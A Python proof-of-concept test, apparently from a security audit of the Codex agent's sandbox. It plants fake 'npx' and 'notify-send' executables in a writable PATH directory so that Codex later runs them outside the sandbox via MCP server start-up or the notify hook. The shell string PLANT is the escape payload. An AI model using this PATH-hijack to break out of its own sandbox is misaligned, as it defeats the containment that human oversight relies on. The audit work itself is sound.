#!/usr/bin/env python3
"""09: codex starts MCP servers (`command = "npx"`, "uvx", "docker", ...), the `notify` program
(`notify-send`) and project hooks by a plain PATH lookup in its own, unsandboxed process
(shutil.which / Popen).  git_argv skips every PATH entry a sandboxed command may write (second
pass 08: `~/.cargo/bin` of a configured writable root, `node_modules/.bin`, `.venv/bin`, /tmp, a
relative entry), but these three do not.  A sandboxed command drops `npx` / `notify-send` into such a
PATH directory; the next codex start (MCP) -- or, for notify, the end of the very turn that planted it --
runs it unconfined.  Here: `writable_roots = ["~/.cargo"]` with ~/.cargo/bin first on PATH (what rustup
sets up; the example sandbox.md itself uses), MCP server `npx -y @modelcontextprotocol/server-github`,
`notify = ["notify-send", "Codex"]`.
Exit 1 while vulnerable (a file appears outside every writable root), 0 otherwise, 2 could not run."""
import os, shutil, subprocess, sys, tempfile
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness

root = tempfile.mkdtemp(prefix="a4-09-", dir="/var/tmp")
home, ch, ws = (os.path.join(root, d) for d in ("home", "codexhome", "ws"))
for d in (home, ch, ws):
    os.makedirs(d)
cargo_bin = os.path.join(home, ".cargo", "bin")
os.makedirs(cargo_bin)
outside = os.path.join(root, "outside")   # not a writable root: /var/tmp/a4-09-*/outside
os.makedirs(outside)
PLANT = ('for n in npx notify-send; do printf "#!/bin/sh\\necho ran unsandboxed as \\$(id -un) > %s/\\$(basename \\$0).txt\\n" '
         '> "$HOME/.cargo/bin/$n"; chmod +x "$HOME/.cargo/bin/$n"; done; '
         'touch %s/sandboxed-write-attempt 2>&1; ls -l "$HOME/.cargo/bin"') % (outside, outside)
srv = harness.serve(harness.script([("shell", {"command": ["sh", "-c", PLANT]})]))
harness.write_config(ch, srv,
    'sandbox_mode = "workspace-write"\napproval_policy = "never"\nnotify = ["notify-send", "Codex"]\n'
    '[sandbox_workspace_write]\nwritable_roots = ["%s"]\n'
    '[mcp_servers.github]\ncommand = "npx"\nargs = ["-y", "@modelcontextprotocol/server-github"]\n' % os.path.join(home, ".cargo"))
env = dict(os.environ, HOME=home, CODEX_HOME=ch, X_KEY="dummy",
           PATH=cargo_bin + ":" + os.environ.get("PATH", "/usr/bin:/bin"))
argv = [harness.CODEX, "exec", "--skip-git-repo-check", "-C", ws]
try:
    p1 = subprocess.run(argv + ["session 1"], env=env, capture_output=True, text=True, timeout=120)
    planted = sorted(os.listdir(cargo_bin))
    before = sorted(os.listdir(outside))
    p2 = subprocess.run(argv + ["session 2"], env=env, capture_output=True, text=True, timeout=120)
    import time; time.sleep(1)
    after = sorted(os.listdir(outside))
finally:
    srv.shutdown()
print("session 1 rc=%d planted in ~/.cargo/bin: %s; outside after session 1: %s" % (p1.returncode, planted, before))
print("session 2 rc=%d; outside after session 2: %s" % (p2.returncode, after))
ran = [n for n in after if n.endswith(".txt")]
for n in ran:
    print(n, "->", open(os.path.join(outside, n)).read().strip())
shutil.rmtree(root, ignore_errors=True)
if "sandboxed-write-attempt" in before:
    print("the sandboxed command itself wrote outside: a different finding"); sys.exit(1)
if "notify-send.txt" in before:
    print("notify: the planted notify-send ran unsandboxed at the end of the very turn that planted it")
if ran:
    print("VULNERABLE: a program a sandboxed command planted on PATH ran unsandboxed (%s)" % ", ".join(ran))
    sys.exit(1)
print("held"); sys.exit(0)
